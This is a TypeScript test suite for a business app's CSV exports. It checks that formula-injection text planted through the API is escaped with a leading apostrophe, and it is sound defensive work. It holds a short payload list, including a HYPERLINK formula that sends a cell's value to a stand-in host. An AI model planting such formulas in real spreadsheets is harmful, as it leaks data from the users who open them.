import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { organizations } from '../db/platform-tables.ts';
import {
  createTestApp,
  TEST_PASSWORD,
  type TestApp,
  type TestBody,
  type TestUser,
} from '../test/test-app.ts';
import { spreadsheetCell } from './csv-export.ts';

/**
 * Text a spreadsheet would run as a formula, planted through the API in every text column of every
 * CSV export: the downloaded file holds it with a leading `'`, while the record keeps it as typed.
 */

// Short enough for the 40-character PO number and payment reference.
const PAYLOADS = ['=HYPERLINK("http://x.test?"&C2,"Go")', '+1+2', '-2+3', '@SUM(A1)'];

type Locale = { [key: string]: string | Locale };

function english(namespace: string, path: string): string {
  let node: string | Locale | undefined = JSON.parse(
    readFileSync(new URL(`../../public/locales/en/${namespace}.json`, import.meta.url), 'utf8'),
  ) as Locale;
  for (const part of path.split('.')) node = typeof node === 'object' ? node[part] : undefined;
  if (typeof node !== 'string') throw new Error(`No English text for ${namespace}:${path}`);
  return node;
}

let t: TestApp;

async function created(user: TestUser, path: string, body: Record<string, unknown>) {
  const response = await t.send(user, 'POST', `/api/${path}`, body);
  expect(response.statusCode, `${path}: ${response.body}`).toBe(201);
  return response.json<TestBody>().data._id;
}

async function plainMerchant(user: TestUser) {
  return created(user, 'merchants', { name: `Merchant ${randomUUID()}` });
}

async function completedOrder(user: TestUser, body: Record<string, unknown>) {
  const id = await created(user, 'orders', { orderDate: '2026-05-01', ...body });
  for (const status of ['in_progress', 'completed']) {
    const moved = await t.send(user, 'PUT', `/api/orders/${id}/status`, {
      status,
      ...(status === 'completed' ? { force: true } : {}),
    });
    expect(moved.statusCode, moved.body).toBe(200);
  }
  return id;
}

interface ExportCase {
  path: string;
  /** Creates the record holding `payload`; gives the path that reads it back (`orders/<id>`). */
  plant: (user: TestUser, payload: string, index: number) => Promise<string>;
  /** The export's headers of the columns holding the payload. */
  columns: string[];
  /** Where the record read back holds the payload, as typed. */
  stored: string[];
  /** Numeric cells of the planted rows, as the file holds them: values, never quoted. */
  numbers?: Record<string, string>;
}

/** The export's header of a form field, as English names it. */
const fieldHeader = (path: string, key: string) => english(path, `fields.${key}`);

/**
 * An area whose own text fields take the payload, each its own column of the export headed by
 * the field's name: `others` completes the record, `numbers` gives by field the numeric cells.
 */
function textFieldsCase(
  path: string,
  texts: string[],
  others: (
    user: TestUser,
    index: number,
  ) => Record<string, unknown> | Promise<Record<string, unknown>> = () => ({}),
  numbers: Record<string, string> = {},
): ExportCase {
  return {
    path,
    plant: async (user, payload, index) =>
      `${path}/${await created(user, path, {
        ...Object.fromEntries(texts.map((key) => [key, payload])),
        ...(await others(user, index)),
      })}`,
    columns: texts.map((key) => fieldHeader(path, key)),
    stored: texts,
    numbers: Object.fromEntries(
      Object.entries(numbers).map(([key, value]) => [fieldHeader(path, key), value]),
    ),
  };
}

const CASES: ExportCase[] = [
  textFieldsCase('merchants', ['name', 'contactPerson', 'address', 'city', 'notes']),
  textFieldsCase('designs', ['name', 'designCode', 'description'], () => ({ rate: 12.5 }), {
    rate: '12.5',
  }),
  textFieldsCase(
    'workers',
    ['name', 'designation', 'address'],
    () => ({ joiningDate: '2024-01-01', salaryType: 'monthly', baseSalary: 500 }),
    { baseSalary: '500' },
  ),
  textFieldsCase(
    'worker-salaries',
    ['notes'],
    async (user, index) => ({
      workerId: await created(user, 'workers', {
        name: `Worker ${index}`,
        joiningDate: '2024-01-01',
      }),
      paymentType: 'salary',
      paymentMethod: 'cash',
      month: 5,
      year: 2026,
      paymentDate: '2026-05-31',
      amount: 1000,
    }),
    { amount: '1000' },
  ),
  textFieldsCase(
    'expenses',
    ['category', 'description'],
    () => ({ amount: 250.75, expenseDate: '2026-05-02' }),
    { amount: '250.75' },
  ),
  textFieldsCase('bank-details', ['bankName', 'accountHolderName', 'branch'], (_user, index) => ({
    accountNumber: `1234567${index}`,
    ifscCode: 'SBIN0001234',
  })),
  {
    path: 'orders',
    plant: async (user, payload, index) => {
      const merchantId = await created(user, 'merchants', { name: payload });
      const designId = await created(user, 'designs', { name: `D ${index}`, designCode: payload });
      return `orders/${await created(user, 'orders', {
        merchantId,
        poNumber: payload,
        orderDate: '2026-05-01',
        notes: payload,
        designs: [{ designId, quantity: 2, rate: 10 }],
      })}`;
    },
    columns: [
      english('orders', 'fields.poNumber'),
      english('orders', 'columns.merchant'),
      english('orders', 'fields.notes'),
    ],
    stored: ['poNumber', 'merchant.name', 'notes'],
    numbers: { [english('orders', 'columns.total')]: '20' },
  },
  textFieldsCase(
    'payments',
    ['reference', 'notes'],
    async (user) => ({
      merchantId: await plainMerchant(user),
      paymentDate: '2026-05-03',
      amount: 100,
      method: 'cash',
    }),
    { amount: '100' },
  ),
  textFieldsCase('users', ['name'], () => ({
    email: `user-${randomUUID()}@example.com`,
    role: 'staff',
    password: TEST_PASSWORD,
  })),
  {
    // The GSTR-1 register: the buyer is the merchant's name as the bill recorded it.
    path: 'bills',
    plant: async (user, payload, index) => {
      await t.database.handle.db
        .update(organizations)
        .set({ state: '24', billPrefix: 'INV', defaultSac: '998821', defaultGstRate: 5 })
        .where(eq(organizations.id, user.auth.organization._id));
      const merchantId = await created(user, 'merchants', { name: payload, state: '24' });
      const designId = await created(user, 'designs', {
        name: `D ${index}`,
        designCode: `D${index}`,
      });
      // 9.90 + 2.5% + 2.5% is 10.40, rounded to 10: a negative round off.
      const orderId = await completedOrder(user, {
        merchantId,
        poNumber: `PO-${index}`,
        designs: [{ designId, quantity: 1, rate: 9.9 }],
      });
      return `bills/${await created(user, 'bills', {
        merchantId,
        orderIds: [orderId],
        billDate: '2026-06-01',
      })}`;
    },
    columns: ['Buyer name'],
    stored: ['merchant.name'],
    numbers: { 'Taxable value': '9.90', 'Round off': '-0.40', 'Invoice value': '10.00' },
  },
];

function parseCsv(body: string) {
  const [headers, ...rows] = Papa.parse<string[]>(body.replace(/^\uFEFF/, ''), {
    skipEmptyLines: true,
  }).data;
  return { headers: headers ?? [], rows };
}

function valueAt(record: Record<string, unknown>, path: string): unknown {
  let value: unknown = record;
  for (const part of path.split('.')) value = (value as Record<string, unknown> | null)?.[part];
  return value;
}

beforeAll(async () => {
  t = await createTestApp();
}, 60_000);

afterAll(async () => {
  await t.close();
});

describe('spreadsheetCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-12.50', "'-12.50"],
    ['Surat Silk', 'Surat Silk'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('writes the text %j as %j', (text, cell) => {
    expect(spreadsheetCell(text)).toBe(cell);
  });

  it('keeps numbers and amounts as values, negative ones too', () => {
    expect(spreadsheetCell(-12.5)).toBe(-12.5);
    expect(spreadsheetCell(0)).toBe(0);
    expect(spreadsheetCell({ decimal: '-0.40' })).toBe('-0.40');
    expect(spreadsheetCell({ decimal: '1050.00' })).toBe('1050.00');
  });

  it('treats an amount that is not a plain decimal as text', () => {
    expect(spreadsheetCell({ decimal: '-1+cmd' })).toBe("'-1+cmd");
  });
});

describe.each(CASES)('GET /api/$path/export.csv', (area) => {
  it('writes planted formulas as text and keeps the stored text as typed', async () => {
    // An organization of its own: the file holds only what this case planted.
    const owner = await t.registerUser();
    const records: string[] = [];
    for (const [index, payload] of PAYLOADS.entries()) {
      records.push(await area.plant(owner, payload, index));
    }

    const response = await t.send(owner, 'GET', `/api/${area.path}/export.csv`);
    expect(response.statusCode, response.body).toBe(200);
    const { headers, rows } = parseCsv(response.body);
    const planted = rows.filter((row) => row.some((cell) => cell.startsWith("'")));
    expect(planted).toHaveLength(PAYLOADS.length);
    for (const header of area.columns) {
      const column = headers.indexOf(header);
      expect(column, header).toBeGreaterThanOrEqual(0);
      expect(planted.map((row) => row[column]).sort(), header).toEqual(
        PAYLOADS.map((payload) => `'${payload}`).sort(),
      );
    }
    for (const cell of rows.flat()) expect(PAYLOADS).not.toContain(cell);
    for (const [header, value] of Object.entries(area.numbers ?? {})) {
      const column = headers.indexOf(header);
      expect(column, header).toBeGreaterThanOrEqual(0);
      expect(
        planted.map((row) => row[column]),
        header,
      ).toEqual(PAYLOADS.map(() => value));
    }

    for (const [index, path] of records.entries()) {
      const read = await t.send(owner, 'GET', `/api/${path}`);
      expect(read.statusCode, read.body).toBe(200);
      const record = read.json<TestBody>().data as Record<string, unknown>;
      for (const key of area.stored) expect(valueAt(record, key), key).toBe(PAYLOADS[index]);
    }
  }, 30_000);
});
